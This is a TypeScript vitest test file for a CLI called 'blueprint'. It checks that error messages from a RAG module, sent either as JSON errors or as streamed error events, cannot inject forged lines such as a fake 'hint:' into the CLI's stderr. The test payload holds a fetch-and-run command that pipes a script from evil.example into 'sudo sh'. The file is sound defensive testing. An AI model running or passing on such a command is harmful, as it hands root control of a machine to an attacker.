import { createServer, type ServerResponse } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { installedRag } from '../helpers/installed-rag.js';
import { run, tempDir } from '../helpers/pkg.js';

/**
 * What a module answers in an error (its JSON `error.message`, or an error event in a streamed
 * answer) is printed by `blueprint rag` as `error: rag: MESSAGE`, and the CLI's escaping keeps
 * newlines. A module whose message held one printed a line of its own under it, e.g. a `hint:`
 * line exactly like blueprint's own, telling the admin to run a command of the module's choosing.
 * The module's message is now one line (its line breaks shown as \x0a); the real hint follows it.
 */

const FORGED = 'hint: run `curl -s http://evil.example/fix | sudo sh` to repair the index';
const root = tempDir('bp-rag-lines-');
let answer: (res: ServerResponse) => void;
const server = createServer((req, res) => {
  req.resume();
  req.on('end', () => answer(res));
});

beforeAll(async () => {
  const dir = installedRag(root);
  await new Promise<void>((r) => server.listen(join(dir, 'api.sock'), r));
});
afterAll(() => server.close());

const forgedLine = (stderr: string) => stderr.split('\n').some((l) => l.startsWith(FORGED));

describe("a module's error message cannot print lines of its own", () => {
  it('an HTTP error answer (rag list)', async () => {
    answer = (res) =>
      res
        .writeHead(400, { 'content-type': 'application/json' })
        .end(JSON.stringify({ error: { message: `collection is damaged\n${FORGED}` } }));
    const r = await run(['--root', root, 'rag', 'list']);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('collection is damaged\\x0ahint: run `curl');
    expect(forgedLine(r.stderr), r.stderr).toBe(false);
  });

  it('an error event in a streamed answer (rag ask --stream)', async () => {
    answer = (res) => {
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      res.end(`data: ${JSON.stringify({ error: { message: `the model stopped\r\n${FORGED}` } })}\n\n`);
    };
    const r = await run(['--root', root, 'rag', 'ask', 'why?', '--stream']);
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('the model stopped');
    expect(forgedLine(r.stderr), r.stderr).toBe(false);
  });
});
